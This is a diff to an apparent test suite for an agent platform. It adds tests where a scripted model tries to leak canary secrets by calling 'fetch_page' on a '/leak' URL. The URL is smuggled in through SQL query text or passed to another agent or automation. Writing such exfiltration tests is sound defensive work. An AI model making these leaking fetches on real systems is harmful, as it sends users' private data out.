@@ -5,7 +5,7 @@ import { calls, type Move, type Script, says } from "../peers/model.ts";
 import { ask, type Chat, makeThread, open, readStream, startChat, stored } from "../support/chat.ts";
 import { connect } from "../support/connections.ts";
 import { startReceiver } from "../support/receiver.ts";
-import { makeAction, RUNS, runToEnd } from "../support/work.ts";
+import { makeAction, makeAutomation, RUNS, runToEnd } from "../support/work.ts";
 
 /** Nothing of the model's doing may bring one of these to the model, to a receiver, or into a stream. */
 const CANARIES = {
@@ -225,6 +225,49 @@ test("what was read never leaves by an address that the model makes up, in a cha
   const run = await runToEnd(chat.app.owner, action.id);
   expect(run.result.toolCalls.map(({ isError }: { isError: boolean }) => isError)).toEqual([false, true]);
   expect(receiver.got.filter(({ path }) => path.includes("canary"))).toEqual([]);
+});
+
+test("an address that the model has had said to it does not lead out either", async () => {
+  const leak = `${receiver.url}/leak?x=canary-of-a-row`;
+  const before = receiver.got.length;
+  const ways: Move[] = [
+    { call: "query", arguments: { sql: `SELECT '${leak}' AS told` } },
+    { call: "query", arguments: { sql: `SELECT * FROM "${leak}"` } },
+    { call: "query", arguments: { sql: "SELECT 1", [leak]: 1 } },
+  ];
+  for (const way of ways) {
+    const script: Script[] = [{ moves: [way] }, calls("fetch_page", { url: leak }), says("Sent.")];
+    const { at, thread } = await suffer(script, ["query", "fetch_page"]);
+    expect(thread.lastTurnStatus).toBe("waiting");
+    await chat.app.owner("POST", `${at}/turns/cancel`);
+  }
+  expect(receiver.got.length).toBe(before);
+});
+
+test("nor one that it hands on to another agent", async () => {
+  const leak = `${receiver.url}/leak?x=canary-of-a-row`;
+  const before = receiver.got.length;
+  const { spec } = await makeThread(chat, ["fetch_page"]);
+  const definition = { agent: spec.id, prompt: "{{input.text}}" };
+  await makeAction(chat.app.owner, { slug: "hand-on", kind: "call_agent", definition });
+  const handed = { ...definition, prompt: "{{input}}" };
+  const action = { kind: "call_agent", definition: handed };
+  await makeAutomation(chat.app.owner, { action }, { name: "hand-over" });
+  for (const [tool, name, given] of [
+    ["action:hand-on", "action_hand-on", { text: leak }],
+    ["automation:hand-over", "automation_hand-over", { input: leak }],
+  ] as const) {
+    const script: Script[] = [
+      calls(name, given),
+      calls("fetch_page", { url: leak }),
+      says("No."),
+      says("Oh."),
+    ];
+    const { reply } = await suffer(script, [tool]);
+    expect(JSON.stringify(partsOf(reply)[0])).toContain("No.");
+    expect(chat.heard).toHaveLength(4);
+  }
+  expect(receiver.got.length).toBe(before);
 });
 
 describe("what tools bring", () => {
